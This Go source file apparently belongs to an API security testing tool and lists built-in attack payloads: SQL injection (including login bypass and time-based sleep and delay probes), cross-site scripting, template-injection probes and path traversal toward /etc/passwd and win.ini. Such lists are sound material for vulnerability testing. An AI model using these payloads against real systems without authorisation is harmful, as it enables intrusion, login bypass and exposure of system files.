package apitest

// builtinPayloads returns the built-in payload lists. They are short, because each payload is a request and one that
// works is enough. The numbers in TEMPLATE_INJECTION multiply to templateProduct.
func builtinPayloads() map[string][]string {
	sqli := []string{
		`'`, `"`, `\`, `')`, `' OR '1'='1`, `' OR 1=1 -- `, `1 OR 1=1`, `" OR ""="`, `') OR ('1'='1`, `'; SELECT 1 -- `,
		`' UNION SELECT NULL -- `, `1)) OR ((1=1`, "`", `' AND extractvalue(1, concat(0x7e, version())) -- `, `admin'/*`,
	}
	return map[string][]string{
		"SQLI":             sqli,
		"SQLI_AUTH_BYPASS": {`' OR '1'='1`, `' OR 1=1 -- `, `' OR 1=1 #`, `" OR ""="`, `admin' -- `, `admin' #`, `admin'/*`, `') OR ('1'='1`},
		"SQLI_TIME": {
			`1 AND SLEEP(5)`, `' AND SLEEP(5) AND '1'='1`, `1' OR SLEEP(5) -- `, `1; SELECT pg_sleep(5)`, `'; SELECT pg_sleep(5) -- `,
			`' || pg_sleep(5) -- `, `1; WAITFOR DELAY '0:0:5'`, `'; WAITFOR DELAY '0:0:5' -- `, `1 OR SLEEP(5) #`,
			`' || dbms_pipe.receive_message('a', 5) || '`,
		},
		"XSS": {
			`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`,
			`'><iframe src="javascript:alert(1)">`, `<body onload=alert(1)>`, `</title><script>alert(1)</script>`,
			`<details open ontoggle=alert(1)>`,
		},
		"TEMPLATE_INJECTION": {
			`{{7919*7907}}`, `${7919*7907}`, `#{7919*7907}`, `<%= 7919*7907 %>`, `*{7919*7907}`, `@(7919*7907)`, `{7919*7907}`, `{% print(7919*7907) %}`,
		},
		"PATH_TRAVERSAL": {
			`../../../../../../etc/passwd`, `/etc/passwd`, `....//....//....//....//etc/passwd`, `..%2f..%2f..%2f..%2fetc%2fpasswd`,
			`..\..\..\..\windows\win.ini`, `file:///etc/passwd`, `../../../../../../etc/passwd%00.png`,
		},
	}
}

// templateProduct is in the response of a server that evaluates a payload of TEMPLATE_INJECTION.
const templateProduct = "62615533"
